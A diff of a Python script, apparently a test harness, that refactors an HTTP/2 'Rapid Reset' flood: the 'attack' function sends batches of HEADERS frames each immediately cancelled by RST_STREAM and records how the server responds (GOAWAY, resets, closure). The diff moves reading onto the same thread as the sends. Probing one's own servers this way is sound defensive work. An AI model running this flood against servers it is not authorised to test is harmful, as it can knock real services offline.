@@ -12,7 +12,6 @@ import json
 import socket
 import ssl
 import struct
-import threading
 import time
 
 ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 7: "REFUSED_STREAM",
@@ -30,7 +29,8 @@ def header_block(authority, path):
     return block
 
 
-def attack(host, port, pairs, path, batch=50):
+def attack(host, port, pairs, path, batch=50, wait=5.0):
+    """One connection, one thread (an SSL socket must not be read and written from two threads at once)."""
     context = ssl.create_default_context()
     context.check_hostname = False
     context.verify_mode = ssl.CERT_NONE
@@ -38,59 +38,72 @@ def attack(host, port, pairs, path, batch=50):
     sock = context.wrap_socket(socket.create_connection((host, port)), server_hostname="localhost")
     result = {"alpn": sock.selected_alpn_protocol(), "pairs_sent": 0, "goaway": None, "server_rst": {},
               "responses": 0, "closed_by_server": False, "seconds": 0.0}
-    done = threading.Event()
+    buffer = bytearray()
 
-    def read():
-        buffer = b""
+    def parse():
+        nonlocal buffer
+        acks = b""
+        while len(buffer) >= 9:
+            length = int.from_bytes(buffer[:3], "big")
+            if len(buffer) < 9 + length:
+                break
+            kind, flags = buffer[3], buffer[4]
+            payload = bytes(buffer[9:9 + length])
+            del buffer[:9 + length]
+            if kind == 7 and length >= 8:
+                code = int.from_bytes(payload[4:8], "big")
+                result["goaway"] = ERRORS.get(code, str(code))
+            elif kind == 3:
+                code = ERRORS.get(int.from_bytes(payload[:4], "big"), "other")
+                result["server_rst"][code] = result["server_rst"].get(code, 0) + 1
+            elif kind == 1:
+                result["responses"] += 1
+            elif kind == 4 and not flags & 1:
+                acks += frame(4, 1, 0)
+        return acks
+
+    def read(block_for):
+        """Reads what has arrived (waiting up to block_for seconds for more); False once the server has closed."""
+        sock.settimeout(block_for)
         try:
             while True:
                 data = sock.recv(65536)
                 if not data:
-                    break
-                buffer += data
-                while len(buffer) >= 9:
-                    length = int.from_bytes(buffer[:3], "big")
-                    if len(buffer) < 9 + length:
-                        break
-                    kind, flags = buffer[3], buffer[4]
-                    payload = buffer[9:9 + length]
-                    buffer = buffer[9 + length:]
-                    if kind == 7 and length >= 8:
-                        code = int.from_bytes(payload[4:8], "big")
-                        result["goaway"] = ERRORS.get(code, str(code))
-                    elif kind == 3:
-                        code = ERRORS.get(int.from_bytes(payload[:4], "big"), "other")
-                        result["server_rst"][code] = result["server_rst"].get(code, 0) + 1
-                    elif kind == 1:
-                        result["responses"] += 1
-                    elif kind == 4 and not flags & 1:
-                        try:
-                            sock.sendall(frame(4, 1, 0))
-                        except OSError:
-                            pass
+                    return False
+                buffer.extend(data)
+                acks = parse()
+                if acks:
+                    sock.sendall(acks)
+                if block_for == 0:
+                    continue
+        except (socket.timeout, ssl.SSLWantReadError, BlockingIOError):
+            return True
         except OSError:
-            pass
-        result["closed_by_server"] = True
-        done.set()
+            return False
 
-    reader = threading.Thread(target=read, daemon=True)
     start = time.monotonic()
+    sock.settimeout(5)
     sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
-    reader.start()
     block = header_block("localhost", path)
     stream = 1
-    try:
-        while result["pairs_sent"] < pairs and not done.is_set():
-            chunk = b""
-            for _ in range(min(batch, pairs - result["pairs_sent"])):
-                chunk += frame(1, 0x5, stream, block) + frame(3, 0, stream, struct.pack(">I", 8))
-                stream += 2
+    open_ = True
+    while open_ and result["pairs_sent"] < pairs:
+        chunk = b""
+        count = min(batch, pairs - result["pairs_sent"])
+        for _ in range(count):
+            chunk += frame(1, 0x5, stream, block) + frame(3, 0, stream, struct.pack(">I", 8))
+            stream += 2
+        try:
+            sock.settimeout(2)
             sock.sendall(chunk)
-            result["pairs_sent"] += batch
-    except OSError:
-        pass
-    result["pairs_sent"] = min(result["pairs_sent"], pairs)
-    done.wait(5)
+        except OSError:
+            break
+        result["pairs_sent"] += count
+        open_ = read(0)
+    deadline = time.monotonic() + wait
+    while open_ and time.monotonic() < deadline:
+        open_ = read(0.2)
+    result["closed_by_server"] = not open_
     result["seconds"] = round(time.monotonic() - start, 2)
     try:
         sock.close()
